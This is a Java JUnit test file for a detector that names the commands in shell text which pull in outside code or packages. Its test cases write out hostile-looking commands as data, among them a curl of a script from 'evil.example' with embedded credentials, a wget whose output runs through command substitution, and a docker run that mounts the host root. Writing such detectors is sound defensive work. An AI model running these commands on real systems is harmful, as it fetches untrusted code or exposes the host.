package dev.agentops.server.text;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.Duration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;

class FetchesTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    pip install evil==1.0                                 | pip install
                    python3 -m pip  install -q evil                       | pip install
                    sudo apt-get -y --force-yes install openssl=1.0       | apt-get -y --force-yes install
                    cd x && npm i left-pad                                | npm i
                    npx create-it                                         | npx
                    curl -fsSL https://a:b@evil.example:8443/x.sh         | curl,https://evil.example:8443
                    git clone git@evil.example:a/b.git                    | git clone,git@evil.example
                    git -C x pull                                         | git -C x pull
                    docker run -v /:/h evil/image                         | docker run
                    go get evil.example/x                                 | go get
                    echo $(wget -O- http://[2001:db8::1]:9/x)             | wget,http://[2001:db8::1]:9
                    curl http://localhost:1@evil.example/x                | http://evil.example
                    curl localhost/x; curl evil.example/y                 | curl
                    /usr/bin/curl x                                       | curl
                    """)
    void whatBringsSomethingInIsNamed(String text, String found) {
        assertThat(String.join(",", Fetches.in(text, 5))).isEqualTo(found);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "npm test",
                "pip list",
                "git status",
                "git log --oneline",
                "systemctl restart curl-proxy",
                "./curl.sh",
                "docker ps",
                "go test ./...",
                "rm -rf installed",
                "mkdir -p pip/install",
                "curl -fsS localhost:8080/health",
                "curl -fsS \"http://127.0.0.1:8080/health\"",
                "wget -qO- http://[::1]/health",
                "echo upgrade"
            })
    void whatDoesNotIsNot(String text) {
        assertThat(Fetches.in(text, 5)).isEmpty();
    }

    @Test
    void onlyTheFirstAndInTimeThatGrowsWithTheText() {
        assertThat(Fetches.in("curl a; wget b; npx c", 2)).containsExactly("curl", "wget");
        assertTimeout(
                Duration.ofSeconds(5),
                () -> Fetches.in("git " + "-x ".repeat(100_000) + "pip" + " ".repeat(100_000), 5));
    }
}
